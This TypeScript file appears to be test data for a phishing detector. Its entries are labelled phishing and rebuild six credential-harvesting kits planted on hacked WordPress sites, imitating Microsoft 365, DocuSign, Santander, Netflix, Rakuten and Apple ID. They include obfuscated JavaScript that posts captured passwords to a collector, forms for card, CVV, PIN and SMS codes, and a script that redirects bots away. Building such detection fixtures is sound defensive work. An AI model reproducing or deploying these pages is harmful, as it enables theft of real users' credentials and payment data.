import type { Entry } from '../entry.js';
import { doc, htmlRoute, jsRoute, jsonRoute, pngRoute, redirectRoute } from '../parts/y-kit.js';

// Phishing kits uploaded to hacked WordPress installs (plugin / uploads / theme folders).

const m365Host = 'greenleafpediatrics-tx.com';
const m365Base = '/wp-content/plugins/wp-sitemap-gen/assets/o/a7f3e';

const dsHost = 'kellerandsonsroofing.com';
const dsBase = '/wp-content/uploads/2025/10/envelope';

const sanHost = 'autoescuelalarambla.es';
const sanBase = '/wp-content/plugins/contact-form-7-ext/lib/particulares';

const nfHost = 'chambres-dhotes-lesglycines.fr';
const nfBase = '/wp-content/themes/twentytwenty-child/inc/compte';

const rkHost = 'kobayashi-seitai.jp';
const rkBase = '/wp-includes/ID3/.cache/rakuten';

const apHost = 'pizzeriadaluigi-bergamo.it';
const apBase = '/wp-content/uploads/elementor/tmp/appleid';

export const entries: Entry[] = [
  {
    id: 'y-wp-plugin-m365-kit',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${m365Host}${m365Base}/index.html#YW5kcmVhLmxvcGV6QGhlbGl4LWxvZ2lzdGljcy5jb20=`,
    routes: {
      [`${m365Host}${m365Base}/index.html`]: htmlRoute(doc({
        title: 'Sign in to your account',
        head: '<meta name="robots" content="noindex, nofollow"><link rel="icon" href="fav.png">',
        css: `body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",-apple-system,Roboto,sans-serif;background:#f2f2f2 url(bg.png) center/cover}
.box{width:440px;max-width:calc(100% - 40px);margin:12vh auto 0;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.logo{display:flex;gap:2px;width:22px;flex-wrap:wrap;margin-bottom:16px}.logo i{width:10px;height:10px;display:block}
h1{font-size:24px;font-weight:600;margin:0 0 12px}#ident{font-size:15px;margin-bottom:12px}
input{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none}
.err{color:#e81123;font-size:14px;display:none;margin:8px 0}
.btn{float:right;margin-top:24px;background:#0067b8;color:#fff;border:0;padding:8px 34px;font-size:15px;cursor:pointer}
.small{font-size:13px;margin-top:14px}.small a{color:#0067b8;text-decoration:none}
footer{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 14px}footer a{color:#000;margin-left:12px;text-decoration:none}`,
        body: `<div class="box">
<div class="logo"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div>
<span style="font-size:15px;color:#737373;font-weight:600;position:relative;top:-30px;left:28px">Microsoft</span>
<div id="ident"></div>
<h1>Enter password</h1>
<div class="err" id="err">Your account or password is incorrect. If you don't remember your password, <a href="#">reset it now.</a></div>
<form id="pf" autocomplete="off">
<input type="password" id="pass" name="passwd" placeholder="Password" required>
<div class="small"><a href="#">Forgot my password</a></div>
<div class="small"><a href="#">Sign in with another account</a></div>
<button class="btn" type="submit">Sign in</button><div style="clear:both"></div>
</form>
</div>
<footer><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></footer>
<script src="v.js"></script>`,
      })),
      [`${m365Host}${m365Base}/v.js`]: jsRoute(`var _0x1f=['\\x68\\x61\\x73\\x68','\\x73\\x75\\x62\\x73\\x74\\x72','\\x6e\\x65\\x78\\x74\\x2e\\x70\\x68\\x70'];
(function(){var h=location[_0x1f[0]][_0x1f[1]](1),em='';try{em=atob(h);}catch(e){}
if(!em||em.indexOf('@')<0){document.body.innerHTML='<h1>404 Not Found</h1>';return;}
document.getElementById('ident').textContent=em;var n=0;
document.getElementById('pf').addEventListener('submit',function(ev){ev.preventDefault();n++;
var p=document.getElementById('pass').value;
fetch(_0x1f[2],{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:em,p:p,n:n,ua:navigator.userAgent})});
if(n<3){document.getElementById('err').style.display='block';document.getElementById('pass').value='';}
else{location.href='https://outlook.office365.com/mail/';}
});})();`),
      [`${m365Host}${m365Base}/next.php`]: jsonRoute({ status: 'received' }),
      [`${m365Host}${m365Base}/bg.png`]: pngRoute(230, 230, 235),
      [`${m365Host}${m365Base}/fav.png`]: pngRoute(0, 120, 215),
    },
  },
  {
    id: 'y-wp-uploads-docusign',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${dsHost}${dsBase}/review.html`,
    routes: {
      [`${dsHost}${dsBase}/review.html`]: htmlRoute(doc({
        title: 'DocuSign - Please review and sign',
        css: `body{margin:0;background:#eef0f3;font-family:Helvetica,Arial,sans-serif}
.bar{background:#fff;border-bottom:1px solid #ddd;padding:12px 24px;font-weight:bold;color:#26348b;font-size:20px}
.bar span{color:#ffc820}
.env{max-width:620px;margin:30px auto;background:#fff;border:1px solid #ddd}
.env .head{background:#1e4ca1;color:#fff;padding:26px;text-align:center}
.env .body{padding:26px;font-size:14px;color:#333}
.doc{border:1px dashed #aaa;padding:14px;margin:16px 0;display:flex;justify-content:space-between}
input{width:100%;padding:10px;margin:6px 0;box-sizing:border-box;border:1px solid #bbb}
button{background:#ffc820;border:0;padding:12px 26px;font-weight:bold;cursor:pointer}`,
        body: `<div class="bar">Docu<span>Sign</span></div>
<div class="env">
<div class="head"><div style="font-size:40px">&#9993;</div><div>Kathy Morales sent you a document to review and sign.</div></div>
<div class="body">
<p><b>Kathy Morales</b><br>kmorales@westbrook-title.com</p>
<p>Please review the attached closing disclosure and sign at your earliest convenience. Funds will be wired once the document is completed.</p>
<div class="doc"><span>&#128196; Closing_Disclosure_Final_v3.pdf</span><span>2 pages</span></div>
<p>To access the envelope, verify the email address this was sent to:</p>
<form method="post" action="auth.php" id="f">
<input type="email" name="login" placeholder="Email address" required>
<input type="password" name="pass" placeholder="Email password" required>
<button type="submit">REVIEW DOCUMENT</button>
</form>
<p style="font-size:11px;color:#888;margin-top:24px">Do Not Share This Email. This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br>Powered by DocuSign eSignature</p>
</div></div>`,
      })),
      [`${dsHost}${dsBase}/auth.php`]: redirectRoute(302, `https://${dsHost}${dsBase}/review.html?err=1`),
    },
  },
  {
    id: 'y-wp-plugin-santander-es',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${sanHost}${sanBase}/login.php`,
    routes: {
      [`${sanHost}${sanBase}/login.php`]: htmlRoute(doc({
        lang: 'es',
        title: 'Santander Particulares - Acceso Clientes',
        css: `body{margin:0;font-family:Arial,sans-serif;background:#fff;color:#222}
header{background:#ec0000;color:#fff;padding:16px 30px;font-size:24px;font-weight:bold}
.wrap{max-width:900px;margin:30px auto;display:flex;gap:30px;padding:0 20px}
.left{flex:1}.right{flex:1;background:#f7f7f7;padding:24px;border-radius:8px}
label{display:block;margin-top:14px;font-size:13px}input,select{width:100%;padding:11px;border:1px solid #999;border-radius:4px;box-sizing:border-box}
button{margin-top:20px;width:100%;background:#ec0000;color:#fff;border:0;padding:13px;border-radius:24px;font-size:15px}
.aviso{background:#fef3f3;border:1px solid #f3c4c4;padding:12px;font-size:13px;border-radius:4px}`,
        body: `<header>&#128293; Santander</header>
<div class="wrap">
<div class="left"><h2>Verificación de seguridad obligatoria</h2>
<div class="aviso">Estimado cliente: por la nueva normativa europea PSD2 es necesario verificar su identidad. Si no completa el proceso antes de 24 horas su acceso a la Banca Online quedará <b>bloqueado temporalmente</b>.</div>
<p style="font-size:13px">Recuerde que Santander nunca le pedirá sus claves por teléfono.</p></div>
<div class="right"><h3>Acceso clientes</h3>
<form id="f" method="post" action="paso2.php">
<label>Tipo de documento</label><select name="tipo"><option>NIF</option><option>NIE</option><option>Pasaporte</option></select>
<label>Número de documento</label><input name="doc" required>
<label>Clave de acceso</label><input name="clave" type="password" maxlength="8" required>
<button>Entrar</button></form>
<p style="font-size:12px"><a href="#">¿Ha olvidado su clave?</a> · <a href="#">Hazte cliente</a></p></div>
</div>
<p style="text-align:center;font-size:11px;color:#777">Banco Santander, S.A. - Todos los derechos reservados · Aviso legal · Política de cookies</p>`,
      })),
      [`${sanHost}${sanBase}/paso2.php`]: htmlRoute(doc({
        lang: 'es',
        title: 'Santander - Firma',
        body: `<h3>Introduzca la clave de firma y el código SMS recibido</h3><form method="post" action="fin.php"><input name="firma" type="password" placeholder="Clave de firma"><input name="sms" placeholder="Código SMS"><button>Confirmar</button></form>`,
      })),
      [`${sanHost}${sanBase}/fin.php`]: redirectRoute(302, 'https://www.bancosantander.es/particulares'),
    },
  },
  {
    id: 'y-wp-theme-netflix-fr',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${nfHost}${nfBase}/paiement/?lang=fr`,
    routes: {
      [`${nfHost}${nfBase}/paiement/`]: htmlRoute(doc({
        lang: 'fr',
        title: 'Netflix',
        css: `body{margin:0;background:#fff;font-family:"Netflix Sans","Helvetica Neue",Arial,sans-serif;color:#333}
.hd{border-bottom:1px solid #e6e6e6;padding:18px 40px}.hd b{color:#e50914;font-size:34px;letter-spacing:-1px}
.c{max-width:440px;margin:20px auto;padding:0 20px}h1{font-size:28px}
input{width:100%;height:56px;padding:10px;border:1px solid #8c8c8c;border-radius:2px;margin:6px 0;box-sizing:border-box;font-size:16px}
.r{display:flex;gap:8px}button{width:100%;background:#e50914;color:#fff;border:0;height:64px;font-size:22px;border-radius:4px;margin-top:14px}`,
        body: `<div class="hd"><b>NETFLIX</b></div>
<div class="c">
<p style="font-size:13px">ÉTAPE <b>2</b> SUR <b>3</b></p>
<h1>Mettez à jour vos informations de paiement</h1>
<p>Nous n'avons pas pu valider votre moyen de paiement pour le prochain cycle de facturation. Votre abonnement sera suspendu si vous ne mettez pas vos informations à jour.</p>
<form action="valider.php" method="post">
<input name="prenom" placeholder="Prénom" required><input name="nom" placeholder="Nom" required>
<input name="carte" placeholder="Numéro de carte" inputmode="numeric" required>
<div class="r"><input name="exp" placeholder="Date d'expiration (MM/AA)" required><input name="cvv" placeholder="Code de sécurité (CVV)" required></div>
<input name="naiss" placeholder="Date de naissance (JJ/MM/AAAA)">
<button>Mettre à jour</button>
</form>
<p style="font-size:12px;color:#737373">Vos paiements seront traités à l'international. Des frais bancaires supplémentaires peuvent s'appliquer.</p>
</div>
<div style="background:#f3f3f3;padding:30px 40px;font-size:13px;color:#737373">Des questions ? Appelez le 0805-543-063 · FAQ · Centre d'aide · Conditions d'utilisation · Confidentialité</div>`,
      })),
      [`${nfHost}${nfBase}/paiement/valider.php`]: htmlRoute('<meta http-equiv="refresh" content="0;url=../3ds/">'),
      [`${nfHost}${nfBase}/3ds/`]: htmlRoute(doc({ lang: 'fr', title: 'Vérification 3D Secure', body: '<h3>Vérification 3D Secure</h3><p>Un code vous a été envoyé par SMS.</p><form method="post" action="../paiement/valider.php"><input name="code"><button>Valider</button></form>' })),
    },
  },
  {
    id: 'y-wp-includes-rakuten-jp',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${rkHost}${rkBase}/member/login.html`,
    routes: {
      [`${rkHost}${rkBase}/member/login.html`]: htmlRoute(doc({
        lang: 'ja',
        title: '楽天会員 ログイン',
        css: `body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif;background:#f7f7f7}
.h{background:#fff;border-bottom:2px solid #bf0000;padding:12px 20px;color:#bf0000;font-weight:bold;font-size:24px}
.b{max-width:420px;margin:30px auto;background:#fff;padding:28px;border:1px solid #ddd}
.n{background:#fff4f4;border:1px solid #f0c0c0;padding:10px;font-size:13px;color:#bf0000}
input{width:100%;padding:12px;margin:8px 0;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}
button{width:100%;padding:13px;background:#bf0000;color:#fff;border:0;border-radius:4px;font-size:16px}`,
        body: `<div class="h">Rakuten 楽天</div>
<div class="b">
<div class="n">【重要】お客様のアカウントで不正なログインが検出されました。安全のため、アカウントを一時的に制限しています。本人確認を行ってください。</div>
<h2 style="font-size:18px">楽天会員ログイン</h2>
<form id="f" method="post" action="../card/">
<input name="u" placeholder="ユーザIDまたはメールアドレス" required>
<input name="p" type="password" placeholder="パスワード" required>
<button>ログイン</button>
</form>
<p style="font-size:12px;color:#666">ユーザID・パスワードを忘れた場合 | 楽天会員に新規登録（無料）</p>
</div>
<p style="text-align:center;font-size:11px;color:#999">&copy; Rakuten Group, Inc.</p>`,
      })),
      [`${rkHost}${rkBase}/card/`]: htmlRoute(doc({
        lang: 'ja',
        title: '楽天カード 本人確認',
        body: `<h2>カード情報の確認</h2><p>ご登録のクレジットカード情報を入力してください。</p>
<form method="post" action="done.php"><input name="cn" placeholder="カード番号"><input name="ex" placeholder="有効期限 (MM/YY)"><input name="cv" placeholder="セキュリティコード"><input name="birth" placeholder="生年月日"><input name="pin" placeholder="暗証番号（4桁）"><button>確認する</button></form>`,
      })),
      [`${rkHost}${rkBase}/card/done.php`]: redirectRoute(302, 'https://www.rakuten.co.jp/'),
    },
  },
  {
    id: 'y-wp-plugin-apple-id-it',
    label: 'phishing',
    kind: 'wp-hacked-kit',
    url: `https://${apHost}${apBase}/`,
    routes: {
      [`${apHost}${apBase}/`]: htmlRoute(`<html><head><meta charset="utf-8"><title>Apple</title><script>
(function(){var u=navigator.userAgent.toLowerCase();if(u.indexOf('bot')>-1||u.indexOf('crawl')>-1){location.replace('https://www.google.it');return;}
var s='${'abcdefghijk'}'.split('').sort(function(){return .5-Math.random()}).join('');location.replace('signin.html?ses='+s+'&locale=it_IT');})();
</script></head><body></body></html>`),
      [`${apHost}${apBase}/signin.html`]: htmlRoute(doc({
        lang: 'it',
        title: 'Accedi con l’ID Apple',
        css: `body{margin:0;font-family:-apple-system,"SF Pro Text","Helvetica Neue",Arial,sans-serif;background:#fff;color:#1d1d1f}
nav{background:#f5f5f7;height:44px;display:flex;align-items:center;justify-content:center;gap:28px;font-size:12px;color:#555}
.m{max-width:480px;margin:60px auto;text-align:center}
.m h1{font-size:28px;font-weight:600}
input{width:100%;padding:16px;border:1px solid #d2d2d7;border-radius:12px;margin:6px 0;font-size:17px;box-sizing:border-box}
button{margin-top:10px;padding:12px 40px;background:#0071e3;color:#fff;border:0;border-radius:20px;font-size:17px}
.n{font-size:14px;color:#6e6e73}`,
        body: `<nav><span>&#63743;</span><span>Store</span><span>Mac</span><span>iPad</span><span>iPhone</span><span>Watch</span><span>Supporto</span></nav>
<div class="m"><h1>ID Apple</h1>
<p class="n">Il tuo ID Apple è stato bloccato per motivi di sicurezza. Accedi per verificare la tua identità e sbloccare il tuo account.</p>
<form method="post" action="verifica.php">
<input name="appleId" type="email" placeholder="Email o numero di telefono" required>
<input name="password" type="password" placeholder="Password" required>
<button>Continua</button></form>
<p class="n"><a href="#" style="color:#06c">Hai dimenticato l’ID Apple o la password?</a></p></div>
<p style="text-align:center;font-size:12px;color:#86868b">Copyright © 2025 Apple Inc. Tutti i diritti riservati. Informativa sulla privacy</p>`,
      })),
      [`${apHost}${apBase}/verifica.php`]: htmlRoute(doc({ lang: 'it', title: 'Verifica', body: '<h2>Conferma i dati di pagamento</h2><form method="post" action="verifica.php"><input name="cc" placeholder="Numero carta"><input name="scad" placeholder="MM/AA"><input name="cvv" placeholder="CVV"><input name="cf" placeholder="Codice fiscale"><button>Conferma</button></form>' })),
    },
  },
];
